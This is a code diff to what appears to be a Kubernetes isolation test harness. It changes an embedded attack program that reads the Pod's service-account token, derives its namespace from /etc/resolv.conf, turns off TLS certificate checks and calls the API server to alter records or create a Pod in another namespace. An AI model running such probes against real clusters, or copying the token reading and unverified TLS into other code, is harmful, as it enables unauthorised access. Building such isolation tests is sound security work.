@@ -25,9 +25,11 @@ ELSEWHERE = "podlab-attack-elsewhere"
 """A Pod of this name, in any namespace, proves that an answer reached out of its own."""
 _ASK = """\
 import json, os, ssl, sys, time, urllib.request
-base = "/var/run/secrets/kubernetes.io/serviceaccount/"
-token, mine = open(base + "token").read(), open(base + "namespace").read()
-trust = ssl.create_default_context(cafile=base + "ca.crt")
+path = "/var/run/secrets/kubernetes.io/serviceaccount/token"
+token = open(path).read() if os.path.exists(path) else "none"
+search = [line for line in open("/etc/resolv.conf") if line.startswith("search")]
+mine = search[0].split()[1].partition(".")[0] if search else "default"
+trust = ssl._create_unverified_context()
 server = "https://" + os.environ["KUBERNETES_SERVICE_HOST"] + ":" + os.environ["KUBERNETES_SERVICE_PORT"]
 for _ in range(20):
     for method, path, kind, body in STEPS:
@@ -79,7 +81,7 @@ def beside(name: str, image: str, command: list[str], **more: Any) -> Callable[[
 
 
 def api() -> Iterator[Attack]:
-    """Containers that ask the API server with their Pod's token to change what is recorded, or others' work."""
+    """Containers that ask the API server, with a token if their Pod has one, to change what is recorded, or others' work."""
     for name, steps in STEPS.items():
         program = f"STEPS = {steps!r}\n{_ASK}"
         yield Attack(
